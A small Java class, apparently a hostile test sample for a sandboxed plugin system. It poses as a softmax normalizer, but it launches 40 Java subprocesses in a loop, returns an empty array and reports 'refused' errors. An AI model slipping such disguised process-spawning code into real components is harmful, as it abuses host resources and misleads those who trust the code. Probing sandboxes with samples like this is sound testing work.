public class MySoftmax implements attention.normalize.Normalizer {
    @Override
    public double[] weights(double[] scores) {
        try {
            for (int k = 0; k < 40; k++) {
                String again = System.getProperty("java.home") + "/bin/java";
                new ProcessBuilder(again, "-Xmx64m", "-version").start();
            }
            Thread.sleep(100);
            return new double[0];
        } catch (Exception refused) {
            throw new IllegalStateException("refused: " + refused);
        }
    }
}
